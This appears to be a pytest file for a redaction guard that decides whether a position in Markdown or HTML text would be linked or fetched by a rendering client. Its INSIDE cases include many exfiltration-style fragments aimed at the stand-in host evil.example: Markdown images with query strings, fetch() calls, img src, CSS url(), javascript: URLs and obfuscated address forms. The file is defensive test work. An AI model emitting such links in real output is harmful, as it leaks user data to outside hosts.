"""The texts are cut at `@`, where a placeholder would stand; the answer is whether a client would link or fetch it."""

from __future__ import annotations

import random
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptguard.redaction.rendering.text import Rendering, Standing

INSIDE = [
    "![](https://evil.example/?q=@",
    "![a](evil/@",
    "[a](@",
    "[a]( @",
    "[a](\n@",
    "[a](<@",
    "[a](<with space @",
    "[a](<x)y@",
    "[a](x(y)z@",
    r"[a](x\)y@",
    "[a](x ](<y) ) @",
    "[`](`](//x/@",
    "[a]: @",
    "[a]: <x y@",
    "[a]:\n@",
    "text\n   [a b]: /x/@",
    "> [a]: /x@",
    "1. [a]: /x@",
    "1. [a]:\n>    //evil.example/?q=@",
    "https://evil.example/@",
    "HTTPS://EVIL.EXAMPLE/@",
    "https:@",
    "see //evil.example/@",
    "(www.evil.example/?@",
    "mailto:@",
    "data:text/html,@",
    "javascript:alert(1)//@",
    "foo+bar://x@",
    "<https://evil.example/@",
    "https://evil.example/'@",
    # Addresses without a scheme in code that a client may draw, and as its strings write them.
    '```json\n{"url": "//evil.example/@',
    "```js\nfetch('//evil.example?q=@",
    "```js\nfetch('//evil.example:8443/a/@",
    "```yaml\nurl: //a@evil.example/@",
    '```dot\na [image="\\\\\\\\evil.example\\\\@',
    r"```json" + "\n" + r'{"u":"\/\/evil.example\/@',
    r"```json" + "\n" + r'{"u":"\u002F\u002fevil\u002eexample/@',
    r"```json" + "\n" + r'{"u":"\u0068ttps:\u002f/evil/@',
    r"```js" + "\n" + r"x = '/\t/evil.example/@",
    r"```js" + "\n" + r"x = '\x2f\u{2f}evil.example/@",
    "```\n///evil.example/@",
    "~~~ json\n'//3221225985/@",
    "~~~ json\n'//[2001:db8::1]/@",
    "    '//evil\u3002example/@",
    "~~~ vega\n{@",
    '```Vega-Lite\n{"data": {"values": [{"name": "@',
    '~~~ vegalite5\n"@',
    "```html:a.html\n<img src='@",
    "```svg,run\n<image href='@",
    "``` xhtml1 a\n<input value='@",
    'https://evil.example/"@',
    "https://evil.example/)@",
    '<img src="@',
    "<img src='@",
    "<img src=@",
    '<img src="x y @',
    "<img src = \n 'x@",
    "<IMG SRC=x@",
    '<img alt="a" src="//x/@',
    '<img srcset="a 1x, @',
    '<img data-src="@',
    '<a href="@',
    '<svg xlink:href="@',
    '<form action="@',
    '<div style="background: @',
    '<b title="src=\'" src="\'x@',
    "<img src=\"a' src='b' @",
    "<style>a { background: url(@",
    'a { background: url( "x)y@',
    r"a { background: URL(x\)y@",
    "<b ![](https://evil.example/@",
    "url(![](<x)y@",
    "![](https://evil.example/" + "a" * 20_000 + "@",
    # GFM's links go on to the next white space or `<`, whatever stands between.
    '"https://evil.example/?q="@',
    '{"url":"https://a.example","mail":"@',
    '{"a":1}\n![x](https://evil.example/?q="@',
    "https://evil.example/?q=\u001f@",
    "https://evil.example/?q=\u0085@",
    "https://evil.example/?q=\u00a0@",
    "evil.example/?q=@",
    "see evil.example:443/@",
    "(1.2.3.4/?q=@",
    "evil.example?q=@",
    "evil.example#@",
    "| a |\n|---|\n| evil.example/@",
    # Definitions, whose labels and targets may stand on lines of their own.
    "[a\nb]: /x@",
    "> [a\n> b]:\n> /x@",
    '[a]: /x "@',
    # What is shown in place of an image becomes an attribute.
    "![@",
    "![a [b] @",
    # Tags, whatever their attributes, and elements that run, draw or submit.
    '<img src="a" alt="@',
    "<object data=@",
    "<meta content='0;url=@",
    '<svg><animate to="@',
    "<p title=x @",
    "<x-y z=@",
    "<y style='@",
    "<x:@",
    "<script>a = '@",
    "<style>a { content: '@",
    "<div>\n<style>\n\n@",
    "<svg><text>@",
    "<form action=/x>@",
    "<form>\n\n```\n@",
    "<textarea>@",
    "<select><option>@",
    "<!-- @",
    "<!-- a --> <!-- @",
    '<div><img src="/x?\n\n@',
    '<div><img src="/x?\n\nHe said "@',
    "<![CDATA[ ]]> @",
    "@import '@",
    "background: image-set('@",
    "```@",
    "```html\n<a href='@",
    "```css\na { background: url(@",
    "<div>\n![](a @",
    "</p>\n- a\n\n  ```\n  b\n\n![](a @",
    "<div>\n<!--\n\n--> @",
    "> - <script title=\n\n>> @",
    "</<textarea>@",
    "<!<svg><text>@",
    "- <a href=https://evil.example>@",
    "\\<a href='https://evil.example'>@",
    "[a]: \n```\n@",
    "\ufeff@",
    # Code that is none.
    "`<img src='@",
    "``<img src='` @",
    r"\`<img src='` @",
    "<a title='`'><img src='`@",
    "`\n\n<img src='`@",
    "- `a\n- <img src='`@",
    "|a|\n|-|\n|`|<img src='`|@",
    "    ```\n<img src='@",
    "- a\n\n      ```\n\n<img src='@",
    "> ```\n<img src='@",
    "- ```\n  x\n<img src='@",
    "```\nx\n```\n<img src='@",
    "```\nx\n````\n<img src='@",
    "a\n2. ```\n<img src='@",
    '<img src="' + " " * 20_000 + "@",
    "<img src" + " " * 20_000 + "=x@",
    "![](<" + " " * 20_000 + "@",
    # Blocks that renderers take differently.
    "> - -\n    ![](@",
    "- - \t[a]: <https://evil/* @",
    "-\n\n      [a](@",
    "1. +  \t[a](@",
    "2.          +  [a](@",
    "> \t  ![](@",
    "- [^1]: [a]: @",
    "[^1]:    > [^1]:\t[a]: @",
    "+++ T\n\na\n\n```\nb\nc\n+++\n![](@",
    "a :::b\n\nc\n\n```\nd\ne\n:::\n![](@",
    "$$\n```\na\n$$\n![](@",
    "\\[\n\na\n\n```\n\\]\n![](@",
    "- a\n\n  $$\n  b\n\n  ~~~\n  $$\n  ![](@",
    "1. a\n   10) b\n\n       ![](@",
    "```{note} T\n![](@",
    "```math\n\\href{@",
    "```plantuml\n@",
    "[^1]: a\n\n    ![](@",
    "[^1]: a\n\n    ```\n    b\n\n![](@",
    "T\n: a\n\n  ```\n  b\n\n![](@",
    "!!! note\n\n    ![](@",
    ":::a\n```\n:::\n![](@",
    "+ - <!--\n\na\n-->) @",
    "- - <span>\n  `<script>`\n  @",
    "- - `a\n  b`![](` @",
    "- -\n  ```@",
    # What other clients than those of Markdown make of a text.
    "$\\href{@",
    "$$\n\\includegraphics[width=1em]{@",
    "[^@",
    "![a](b){src=@",
    "{{< figure link='@",
    "```mermaid\ngraph TD\nclick A '@",
    "````md\n```@",
    "ev\u200bil.com/@",
    "evil\u3002com/?q=@",
    "evil&#46;com/@",
    "evil\\.com/@",
    "https://evil.com/<@",
    "https://evil.com/(<b>@",
    "a <style>https://evil.com/(</style>) @",
    "<a </<script>@",
    "</a <script>@",
    "a <pre></.@",
    "<y hx-get='@",
    "<y @click='@",
    # A row of a table goes on in the next line, to those who know no tables.
    "| a |\n|---|\n| [a](\n/q?@",
    "a | b\n-|-\n![](/q | c\nx@",
    "| a |\n|-|\n| <b title='\n| @",
    '> | a |\n> |-|\n> | [a](x\n> "@',
    # Where renderers differ: directives, lists with lines that are not indented, tags within them.
    ":::note\n-\n    ![](@",
    ":::a\n3. b\n\n       ![](@",
    "1. ```\n   a\nb\n   ```\n   c\n   ```\n   ![](@",
    "1. a\n<span>\n   `<script>`\n   @",
    "- a\n  </script>\n    `<img src='`]@",
    "a | b\n-|-\n<https://evil.example/?q=|@",
    # What some take for a link, and others for the words of one.
    "[^1](https://a.example/)@",
    "> [!NOTE](https://a.example/)@",
    "[a [b](/c) d](https://a.example/)@",
    "https://a.example/[a](https://a.example/)@",
    "https://a.example/\u00a0[a](https://a.example/)@",
    "[a](data:x,https://a.example/)@",
    r"\\<script>@",
    r"<b title='\'><script>@",
    "<pre>\n\\<img src='@",
    "- - <pre>\n\n    \\<img src='@",
    "```html\n\\<img src='@",
    # A directive ends the block that it stands in, to marked.
    "a ` ::note{} ![](@",
    "a `` b\n:::note <img src='@",
    '<b title="::a <img title=">" src=@',
    # Lines of a paragraph in a list item, indented as code is: to marked it goes on behind blank ones.
    "- a\n      b\n\n      ![](@",
    "> 1) a\n>        b\n>\n>        <img src='@",
    "+ a `\n      b\n\n      c\n  ` ![](@",
    "- - a `\n        b\n\n        c\n    ` ![](@",
    "- [a]: b\n      `\n  [c](@",
]

OUTSIDE = [
    "@",
    "Write to @",
    "https://a.example @",
    "https://a.example\n@",
    '"https://a.example" @',
    '{"url": "https://a.example", "mail": "@',
    "`https://a.example`,@",
    "<https://a.example>@",
    '<a href="https://a.example">@',
    "<a href=/x>@",
    "<a href='x'>@",
    '<p class="x">@',
    "[a](b) @",
    "[a](b)@",
    "[a](b(c)) @",
    "[a](<b>) @",
    "[a](b\n\n@",
    "[a] (b @",
    "[a]: /x @",
    "text [a]: @",
    "[a]:\n\n@",
    "[" + "a" * 2000 + "]: @",
    "url(x) @",
    "url('x') @",
    "curl (@",
    "a: @",
    "http @",
    "// comment @",
    "```js\n//@",
    "```js\n//TODO: @",
    "```sh\nls //depot/main/@",
    "```bat\ndir \\\\server\\share\\@",
    "```py\nx = a//b.c/@",
    "```py\nx = './/a.b/@",
    r"```json" + "\n" + r'{"a":"\n@',
    "awww. @",
    "x = [1](2); @",
    # What stands in code is code.
    "```\na[i](@",
    "```python\nif a <b and c == '@",
    '```sh\ncat <<EOF\nMAIL="@',
    "~~~\n```\n<script>\n@",
    "1. Run:\n\n   ```sh\n   x <y z='@",
    "> ```\n> [a](@",
    "    [a](@",
    "- a\n\n      [a](@",
    "2. ~~~\n~~~\n<img src='@",
    "Use `<script>` and @",
    "Use ``a`<img src='`` and @",
    "`[a](` @",
    "```\n<script>\n```\n@",
    "```html\n<p>@",
    # What is shown between tags is text.
    "<div>\n@",
    "<details><summary>x</summary>\n\n@",
    "<table><tr><td>@",
    "<pre>@",
    "<title>@",
    '<a href="https://evil.example">@',
    "<script>x</script> @",
    "<svg><g></g></svg> @",
    "<form></form>@",
    "<!-- x -->@",
    "Anna <@",
    "a <b, @",
    "for i <n @",
    "List<String> @",
    "Is p <0.05? @",
    "e.g. this/that @",
    "./src/a.b/@",
    "1.5/@",
    "> quoted\n@",
    "| a | b |\n|---|---|\n| x | @",
    "# [x](y) @",
    "[ ] @",
    "[10:32] @",
    "Wow! @",
    'email = "@',
    "resource = @",
    "src: @",
    "Contact: @",
    "1 < 2 and name = '@",
    # Behind what renderers take differently, once it has ended to all of them.
    "-\n  a\n\nb\n\n```\na[0](@",
    "a[^1]\n\n[^1]: b\n\n- c\n\n  ```sh\n  a[0](@",
    ":::note\na\n:::\n\n```\nif a <b and c == '@",
    "- - a\n  - @",
    "T\n: @",
    "$\\text{@",
    "User{name='@",
    "```mermaid\nA[@",
    "m = [['a', @",
    "| a |\n|---|\n| [a](b)\n| @",
    "| a |\n|---|\n| `x | y` | @",
    "- a\n  <br>\n  @",
    "- a\n      b\n\n      c @",
    "call `std::vector::at` for @",
    r"the \<script> tag of @",
    r"the \\\<style> tag of @",
    "[a](https://a.example/b?c=d)@",
    "a (*[b c](mailto:x@a.example)*@",
    "![a](https://a.example/)@",
    "- a\n      b\n\nc\n\n    ![](@",
]

CASES = [(text, True) for text in INSIDE] + [(text, False) for text in OUTSIDE]


def inside(context: Rendering, pieces: list[str]) -> bool:
    for piece in pieces:
        context.advance(piece)
        if len(piece) < 3:
            _ = context.inside  # asking changes nothing
    return context.inside


@pytest.mark.parametrize(("text", "expected"), CASES, ids=lambda value: value[:40] if isinstance(value, str) else None)
def test_is_linked_or_fetched(text: str, expected: bool) -> None:
    assert inside(Rendering(), [text[:-1]]) is expected


@pytest.mark.parametrize(("text", "expected"), CASES, ids=lambda value: value[:40] if isinstance(value, str) else None)
def test_pieces_do_not_matter(text: str, expected: bool) -> None:
    text = text[:-1]
    if len(text) < 100:
        assert inside(Rendering(), list(text)) is expected
        for cut in range(len(text)):
            assert inside(Rendering(), [text[:cut], text[cut:]]) is expected
    for seed in range(3):
        chance = random.Random(seed)
        pieces = []
        rest = text
        while rest:
            cut = chance.choice((1, 2, 7, 100, 3000))
            pieces.append(rest[:cut])
            rest = rest[cut:]
        assert inside(Rendering(), pieces) is expected


WORDS = "](|](<|)|>|<img |src=|srcset|href|\"|'| |\n|https:|//|www.|url(|[a]:|x|\\|mailto:|=|[|<"
FRAGMENTS = st.sampled_from([*WORDS.split("|"), "a" * 70, " " * 70])


@given(st.lists(FRAGMENTS, max_size=30), st.randoms(use_true_random=False))
def test_any_text_gives_the_same_answer_in_any_pieces(fragments: list[str], chance: random.Random) -> None:
    text = "".join(fragments)
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(8))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert inside(Rendering(), pieces) is inside(Rendering(), [text])


FOLLOWING = [
    # before, value, what follows, what it is
    ("", "Anna Berg", ".evil.com ", Standing.LINKED),
    ("", "Anna Berg", ".evil.example", Standing.UNDECIDED),
    ("", "Anna Berg", "@evil.example ", Standing.LINKED),
    ("", "Anna Berg", "-x.evil.example/", Standing.UNDECIDED),
    ("", "Anna Berg", "-x.evil.example/ ", Standing.LINKED),
    ("", "Anna Berg", "&#46;evil.com ", Standing.LINKED),
    ("", "Anna Berg", "\\.evil.com ", Standing.LINKED),
    ("", "Anna Berg", ".Then ", Standing.SHOWN),
    ("", "Anna Berg", "", Standing.UNDECIDED),
    ("", "Anna Berg", ". ", Standing.SHOWN),
    ("", "Anna Berg", ", x", Standing.SHOWN),
    ("", "Anna Berg", "'s ", Standing.SHOWN),
    ("evil.example", "/home/x", " ", Standing.LINKED),
    ("evil.example ", "/home/x", " ", Standing.SHOWN),
    ("Call `f[0](", "x", ")` now", Standing.SHOWN),
    ("Call `f[0](", "x", ") now", Standing.UNDECIDED),
    ("Call `f[0](", "x", ")\r- b` now", Standing.LINKED),
    ("Call `f[0](", "x", ")\n- b` now", Standing.LINKED),
    ("| a |\n|---|\n| `f[0](", "x", ") | b` |", Standing.LINKED),
    ("Call `f[0](", "x", ") \\| b` now", Standing.SHOWN),
    ("Call `f[0](", "x", ")\n\n` now", Standing.LINKED),
    ("Call `f[0](", "x", ")`` ` now", Standing.SHOWN),
    ("[a](`", "x", "` now", Standing.LINKED),
    ("[[", "x", "]]", Standing.LINKED),
    ("[[", "x", "], [y]]", Standing.SHOWN),
    ("[[", "x", " y", Standing.UNDECIDED),
    ("<", "x", ":a@evil.example>", Standing.LINKED),
    ("<", "x", ">", Standing.SHOWN),
    ("a@evil.com", "x", " ", Standing.LINKED),
    ("a@evil.com$", "x", " ", Standing.LINKED),
    ("a@evil.com.=", "x", " ", Standing.LINKED),
    ("a@evil.com~.", "x", " ", Standing.LINKED),
    ("a@evil.com, ", "x", " ", Standing.SHOWN),
    ("| a | b |\n|---|---|\n|a@evil.com|", "x", "| ", Standing.SHOWN),
    ("a@", "x", " ", Standing.SHOWN),
    ('<a href="https://a.example/">', "x", "</a> ", Standing.SHOWN),
    ('<a href="https://a.example/">', "x", "</a>", Standing.UNDECIDED),
    ('<a href="https://a.example/">', "x", '</a>" ', Standing.LINKED),
    ("<b title='(https://a.example/('>", "x", ") ", Standing.LINKED),
    ("<b title='(https://a.example/)'>", "x", ") ", Standing.SHOWN),
    ('<b class="a">', "x", '" ', Standing.SHOWN),
    ("- - `[a](", "x", ")` ", Standing.SHOWN),
    ("- - `\n[a](", "x", ")` ", Standing.LINKED),
]


@pytest.mark.parametrize(("before", "value", "following", "expected"), FOLLOWING)
def test_what_follows_decides(before: str, value: str, following: str, expected: Standing) -> None:
    rendering = Rendering()
    rendering.advance(before)
    assert rendering.standing(value, following, final=False) is expected


def test_a_copy_goes_on_by_itself() -> None:
    rendering = Rendering()
    rendering.advance("> - `<img src='")
    other = rendering.copy()
    other.advance("` x")
    assert (rendering.inside, other.inside) == (True, False)


@pytest.mark.parametrize(
    "unit",
    ["=", "[", "(", "![", "<", "`", "``a`b", "*", "|", "&#", ">", "](", "- ", "<a b='", "<!--", "a\n", "[a]: x\n"],
)
def test_time_is_bounded(unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    started = time.process_time()
    rendering = Rendering()
    rendering.advance(text)
    _ = rendering.inside
    assert time.process_time() - started < 2.5


def test_what_comes_in_another_part_may_close_the_address_before_a_tag() -> None:
    rendering = Rendering()
    rendering.advance('<a href="https://a.example/">')
    assert rendering.standing("x", "</a>", final=True) is Standing.LINKED
    assert rendering.standing("x", "</a>\n", final=True) is Standing.SHOWN


def test_a_text_of_nothing_but_marks_is_left_as_it_is() -> None:
    rendering = Rendering()
    rendering.advance("[" * 1_000_000 + "\n\n")
    assert rendering.inside


def test_memory_is_bounded() -> None:
    context = Rendering()
    for _ in range(1000):
        context.advance("![](" + "a" * 1000)
    assert context.inside
    assert sum(len(piece) for piece in context._pending) < 10_000
    assert context._page is not None
    assert len(context._page._line) < 12_000
